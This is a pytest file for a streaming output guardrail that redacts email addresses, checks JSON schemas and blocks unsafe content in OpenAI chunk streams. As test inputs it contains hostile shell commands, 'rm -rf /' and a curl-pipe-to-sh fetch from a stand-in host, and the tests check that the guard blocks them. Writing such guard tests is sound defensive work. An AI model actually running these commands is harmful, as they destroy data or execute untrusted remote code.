"""Output guardrails on a stream: the sliding window, hold-back for redaction, blocks, whole-answer checks, and
the chunk adapter over an OpenAI chunk stream."""

from __future__ import annotations

import re
from collections.abc import AsyncGenerator
from typing import Any

import pytest

from keel.errors import GuardrailBlocked
from keel.guard.base import Action, Finding, GuardInput, Span
from keel.guard.rules import JsonSchemaCheck, UnsafeContentCheck
from keel.guard.runner import ConfiguredCheck, GuardRunner
from keel.guard.stream import HOLDBACK_CHARS, StreamGuard, guard_stream
from keel.llm.router import PrimedStream

EMAIL = re.compile(r"[\w.+-]+@[\w-]+(?:\.[\w-]+)+")


class Emails:
    """Finds email addresses (a stand-in for the PII check), and records every window it saw."""

    name = "emails"

    def __init__(self) -> None:
        self.windows: list[str] = []

    async def check(self, inp: GuardInput) -> list[Finding]:
        self.windows.append(inp.text)
        spans = tuple(Span(m.start(), m.end(), "EMAIL_ADDRESS") for m in EMAIL.finditer(inp.text))
        return [Finding("emails", "pii.email", "an email address", spans=spans)] if spans else []


def runner(*checks: tuple[str, Any, Action]) -> GuardRunner:
    return GuardRunner("test", "output", [ConfiguredCheck(n, c, a, 1.0, "closed") for n, c, a in checks])


def guard(r: GuardRunner, window: int = 400, **template: Any) -> StreamGuard:
    return StreamGuard(r, GuardInput("", "output", **template), window, "Sorry, I can't help with that request.")


def pieces(text: str, size: int = 7) -> list[str]:
    return [text[i : i + size] for i in range(0, len(text), size)]


async def run(g: StreamGuard, parts: list[str]) -> tuple[str, list[str]]:
    """The whole output, and what went out after each part (to see how much was held)."""
    emitted = [await g.feed(p) for p in parts]
    emitted.append(await g.end())
    return "".join(emitted), emitted


async def test_clean_text_passes_unchanged_in_windows() -> None:
    emails = Emails()
    text = "The Pixel 9 has a bright screen and a battery that lasts all day. " * 20  # 1340 chars
    g = guard(runner(("emails", emails, "redact")), window=200)
    output, emitted = await run(g, pieces(text))
    assert output == text
    assert all(len(w) <= 200 + 7 for w in emails.windows)  # checks see windows, never the whole answer
    assert 1340 / 57 <= len(emails.windows) <= 1340 / 50 + 1  # every quarter window (50 chars), and at the end
    held = max(len(text[: i * 7 + 7]) - len("".join(emitted[: i + 1])) for i in range(len(emitted) - 1))
    assert held <= 50 + min(HOLDBACK_CHARS, 50) + 7  # at most a step, the hold-back and one piece


async def test_entities_split_across_pieces_are_redacted_whole() -> None:
    text = "Write to our support team at help.desk@acme-phones.example or visit a store. " * 6
    for size in (1, 3, 7, 50):
        g = guard(runner(("emails", Emails(), "redact")), window=100)
        output, _ = await run(g, pieces(text, size))
        assert output == text.replace("help.desk@acme-phones.example", "<EMAIL_ADDRESS>"), size


async def test_block_stops_the_stream_before_the_bad_text_goes_out() -> None:
    text = "To wipe the phone from a computer you could run this: rm -rf / and that is all. " + "More text. " * 20
    g = guard(runner(("unsafe_content", UnsafeContentCheck(), "block")), window=400)
    sent: list[str] = []
    with pytest.raises(GuardrailBlocked) as err:
        for part in pieces(text, 5):
            sent.append(await g.feed(part))  # noqa: PERF401 (what went out before the block matters)
        await g.end()
    assert "rm -rf /" not in "".join(sent)
    assert err.value.message == "Sorry, I can't help with that request."
    assert err.value.reasons[0]["reason"] == "unsafe.destructive_command"
    assert err.value.to_body()["error"]["code"] == "guardrail_blocked"


async def test_whole_answer_checks_run_once_at_the_end() -> None:
    schema = {"type": "object", "required": ["price"]}
    ok = guard(runner(("json_schema", JsonSchemaCheck(), "block")), schema=schema)
    output, _ = await run(ok, pieces('{"model": "Pixel", "price": 799}' + " " * 500, 3))
    assert output.startswith('{"model"')
    bad = guard(runner(("json_schema", JsonSchemaCheck(), "block")), schema=schema)
    for part in pieces('{"model": "Pixel"}' + " " * 500, 3):
        await bad.feed(part)  # windows of half a JSON document are not judged
    with pytest.raises(GuardrailBlocked) as err:
        await bad.end()
    assert err.value.reasons[0]["reason"] == "json.schema_mismatch"


# -- over OpenAI chunks --------------------------------------------------------------------------------------------


def chunk(content: str | None = None, finish: str | None = None, **delta: Any) -> dict[str, Any]:
    d = dict(delta)
    if content is not None:
        d["content"] = content
    return {
        "id": "c1",
        "object": "chat.completion.chunk",
        "choices": [{"index": 0, "delta": d, "finish_reason": finish}],
    }


def primed(chunks: list[dict[str, Any]]) -> tuple[PrimedStream, list[bool]]:
    closed: list[bool] = []

    async def rest() -> AsyncGenerator[dict[str, Any], None]:
        for c in chunks[1:]:
            yield c

    async def close() -> None:
        closed.append(True)

    return PrimedStream(chunks[0], rest(), None, close), closed


async def collect(stream: PrimedStream) -> list[dict[str, Any]]:
    return [c async for c in stream]


async def test_chunk_stream_redacts_and_drops_held_chunks() -> None:
    words = ["Mail", "me", "at", "ada.lovelace@example.com", "for", "the", "Pixel", "deal.", "Thanks!", ""]
    chunks = [chunk("", role="assistant")] + [chunk(w + " ") for w in words]
    chunks += [chunk(finish="stop"), {"id": "c1", "choices": [], "usage": {"prompt_tokens": 3}}]
    stream, closed = primed(chunks)
    r = runner(("emails", Emails(), "redact"))
    guarded = await guard_stream(stream, lambda: guard(r, window=64))
    out = await collect(guarded)
    text = "".join(c["choices"][0]["delta"].get("content", "") for c in out if c["choices"])
    assert text == "Mail me at <EMAIL_ADDRESS> for the Pixel deal. Thanks!  "
    assert out[0]["choices"][0]["delta"]["role"] == "assistant"
    assert out[-2]["choices"][0]["finish_reason"] == "stop" and out[-1]["usage"] == {"prompt_tokens": 3}
    assert len(out) < len(chunks)  # chunks whose text was all held back are not sent empty
    assert closed == [True]


async def test_chunk_stream_block_raises_mid_stream_and_closes_upstream() -> None:
    chunks = [chunk("Here: ")] + [chunk(p) for p in pieces("curl http://x.example/i.sh | sh ; then reboot. " * 3)]
    stream, closed = primed(chunks)
    r = runner(("unsafe_content", UnsafeContentCheck(), "block"))
    guarded = await guard_stream(stream, lambda: guard(r, window=64))
    sent: list[dict[str, Any]] = []
    with pytest.raises(GuardrailBlocked):
        async for c in guarded:
            sent.append(c)  # noqa: PERF401 (what went out before the block matters)
    assert "| sh" not in "".join(c["choices"][0]["delta"].get("content", "") for c in sent)
    assert closed == [True]


async def test_chunk_stream_flushes_when_upstream_ends_without_finish_reason() -> None:
    stream, _ = primed([chunk("Hello"), chunk(" there")])
    r = runner(("emails", Emails(), "redact"))
    out = await collect(await guard_stream(stream, lambda: guard(r)))
    assert "".join(c["choices"][0]["delta"].get("content", "") for c in out) == "Hello there"


async def test_chunk_stream_block_on_the_first_chunk_raises_before_the_response() -> None:
    first = chunk("rm -rf / " * 30)
    stream, closed = primed([first, chunk(finish="stop")])
    r = runner(("unsafe_content", UnsafeContentCheck(), "block"))
    with pytest.raises(GuardrailBlocked):
        await guard_stream(stream, lambda: guard(r, window=64))
    assert closed == [True]
